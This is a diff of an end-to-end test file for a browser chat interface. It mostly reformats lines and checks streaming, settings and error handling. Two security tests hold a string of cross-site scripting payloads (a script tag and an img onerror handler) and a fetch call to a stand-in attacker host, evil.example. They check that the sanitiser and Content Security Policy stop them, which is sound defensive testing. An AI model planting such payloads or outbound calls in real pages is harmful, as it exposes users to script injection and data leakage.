@@ -4,8 +4,8 @@ import json
 import threading
 
 import pytest
-from page_browser import Site, expect
-from page_server import busy
+from support.page_browser import Site, expect
+from support.page_server import busy
 
 from llmchat.server.errors import BadRequest
 
@@ -30,7 +30,10 @@ def test_an_answer_appears_while_it_is_written(site: Site) -> None:
     expect(user.find(".message.assistant")).to_have_attribute("aria-busy", "false")
     expect(user.find(".meta")).to_contain_text("small · 2 tokens")
     expect(user.find(".meta")).to_contain_text("tokens/s")
-    assert (user.find(".message.user").bounding_box(), user.find("#composer").bounding_box()) == (top, field), "the layout jumped"
+    assert (user.find(".message.user").bounding_box(), user.find("#composer").bounding_box()) == (
+        top,
+        field,
+    ), "the layout jumped"
     assert user.find("#said").inner_text() == "The answer is complete."
     assert site.request["messages"] == [{"role": "user", "content": "Hello"}]
     assert site.request["stream_options"] == {"include_usage": True}
@@ -38,14 +41,20 @@ def test_an_answer_appears_while_it_is_written(site: Site) -> None:
 
 def test_finished_blocks_are_not_drawn_again(site: Site) -> None:
     gate = threading.Event()
-    site.script.answers.append(["One paragraph.\n\n```python\nprint(1)\n```\n\nNow ", gate, "[more][1].\n\n* and\n* more"])
+    site.script.answers.append(
+        ["One paragraph.\n\n```python\nprint(1)\n```\n\nNow ", gate, "[more][1].\n\n* and\n* more"]
+    )
     user = site.visit()
     user.send("Hello")
     expect(user.answer).to_contain_text("Now")
-    user.page.evaluate("document.querySelectorAll('.block').forEach((block, index) => (block.mark = index))")
+    user.page.evaluate(
+        "document.querySelectorAll('.block').forEach((block, index) => (block.mark = index))"
+    )
     gate.set()
     user.settled()
-    assert user.page.evaluate("[...document.querySelectorAll('.block')].map((block) => block.mark)") == [0, 1, None, None]
+    assert user.page.evaluate(
+        "[...document.querySelectorAll('.block')].map((block) => block.mark)"
+    ) == [0, 1, None, None]
     assert [item.strip() for item in user.find(".markdown li").all_inner_texts()] == ["and", "more"]
 
 
@@ -96,7 +105,11 @@ def test_another_answer_stands_beside_the_old_one(site: Site) -> None:
     user.reload()
     user.sees("A colour?", "Blue.")
     user.ask("Why?")
-    assert [message["content"] for message in site.request["messages"]] == ["A colour?", "Blue.", "Why?"]
+    assert [message["content"] for message in site.request["messages"]] == [
+        "A colour?",
+        "Blue.",
+        "Why?",
+    ]
     user.button("Next version").click()
     user.sees("A colour?", "Red.")
 
@@ -159,8 +172,18 @@ def test_settings_reach_the_request(site: Site) -> None:
     user.ask("Hello")
     request = site.request
     assert request["messages"][0] == {"role": "system", "content": "Answer in rhyme."}
-    asked = {name: value for name, value in request.items() if name not in ("model", "messages", "stream", "stream_options", "show_prompt")}
-    assert asked == {"temperature": 0.25, "top_k": 40, "max_tokens": 128, "seed": 7, "stop": ["###", "\nUser:"]}
+    asked = {
+        name: value
+        for name, value in request.items()
+        if name not in ("model", "messages", "stream", "stream_options", "show_prompt")
+    }
+    assert asked == {
+        "temperature": 0.25,
+        "top_k": 40,
+        "max_tokens": 128,
+        "seed": 7,
+        "stop": ["###", "\nUser:"],
+    }
     user.reload()
     user.settings()
     assert user.page.get_by_label("System text").input_value() == "Answer in rhyme."
@@ -184,7 +207,9 @@ def test_model_and_adapter_are_chosen(site: Site) -> None:
     expect(user.find("#adapter")).to_be_hidden()
     user.ask("Hello again")
     assert site.request["model"] == "org/large"
-    assert site.request["messages"][0] == {"role": "system", "content": "Be exact."}, "the model's own system text"
+    assert site.request["messages"][0] == {"role": "system", "content": "Be exact."}, (
+        "the model's own system text"
+    )
 
 
 EVIL = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">
@@ -205,8 +230,24 @@ def test_what_a_model_writes_is_inert(site: Site) -> None:
     user.reload()
     expect(user.answer).to_contain_text("window.hacked = 1")
     user.answer.get_by_text("bold").first.click()
-    inside = user.page.evaluate("[...new Set([...document.querySelectorAll('.body *')].map((element) => element.localName))]")
-    assert set(inside) <= {"div", "p", "a", "b", "br", "pre", "code", "span", "button", "table", "tbody", "tr", "td"}
+    inside = user.page.evaluate(
+        "[...new Set([...document.querySelectorAll('.body *')].map((element) => element.localName))]"
+    )
+    assert set(inside) <= {
+        "div",
+        "p",
+        "a",
+        "b",
+        "br",
+        "pre",
+        "code",
+        "span",
+        "button",
+        "table",
+        "tbody",
+        "tr",
+        "td",
+    }
     links = user.page.evaluate(
         "[...document.querySelectorAll('.markdown a')].map((a) => [a.getAttribute('href'), a.rel, a.id, a.onmouseover])"
     )
@@ -231,15 +272,16 @@ def test_the_policy_holds_where_the_sanitiser_would_not(site: Site) -> None:
     sent = "fetch('https://evil.example').then(() => 'sent', () => 'blocked')"
     assert user.page.evaluate(sent) == "blocked"
     assert user.page.evaluate("window.hacked") is None
-    assert all("Content Security Policy" in fault or "Trusted" in fault or "evil.example" in fault for fault in user.faults), user.faults
+    assert all(
+        "Content Security Policy" in fault or "Trusted" in fault or "evil.example" in fault
+        for fault in user.faults
+    ), user.faults
     user.faults.clear()
 
 
 def test_dark_and_light(site: Site) -> None:
     user = site.visit(color_scheme="dark")
-    brightness = (
-        "getComputedStyle(document.documentElement).backgroundColor.match(/\\d+/g).slice(0, 3).reduce((sum, part) => sum + Number(part), 0)"
-    )
+    brightness = "getComputedStyle(document.documentElement).backgroundColor.match(/\\d+/g).slice(0, 3).reduce((sum, part) => sum + Number(part), 0)"
     assert user.page.evaluate(brightness) < 150
     user.button("Theme: auto").click()
     assert user.page.evaluate(brightness) > 700
@@ -324,7 +366,11 @@ def test_a_busy_server_is_asked_again(site: Site) -> None:
 
 
 @pytest.mark.parametrize(
-    ("fault", "told"), [(RuntimeError("the model broke"), "the model broke"), (ConnectionError(), "connection was lost")]
+    ("fault", "told"),
+    [
+        (RuntimeError("the model broke"), "the model broke"),
+        (ConnectionError(), "connection was lost"),
+    ],
 )
 def test_an_error_in_the_middle_keeps_the_text(site: Site, fault: Exception, told: str) -> None:
     site.script.answers += [["Half ", 0.05, fault], ["Whole."]]
